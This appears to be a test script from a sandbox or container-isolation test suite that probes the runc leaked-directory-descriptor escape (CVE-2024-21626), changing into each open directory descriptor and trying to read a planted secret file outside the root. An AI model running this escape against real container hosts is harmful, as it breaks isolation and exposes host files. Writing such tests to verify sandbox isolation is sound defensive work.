# attack: use a directory descriptor left open by the server to step outside the root (runc, CVE-2024-21626)
# must end: completed
# with: planted
import os, stat
home = os.getcwd()
for fd in range(1024):
    try:
        if not stat.S_ISDIR(os.fstat(fd).st_mode):
            continue
        os.fchdir(fd)
    except OSError:
        continue
    try:
        if os.getcwd().startswith("(unreachable)"):
            print("BREACH: descriptor", fd, "lies outside the root")
    except FileNotFoundError:
        print("BREACH: descriptor", fd, "lies outside the root")
    for up in range(1, 20):
        try:
            with open("../" * up + "var/tmp/woma-attack-secret.txt") as file:
                print("BREACH: descriptor", fd, "reaches", file.read(80))
        except OSError:
            pass
os.chdir(home)
print("held")
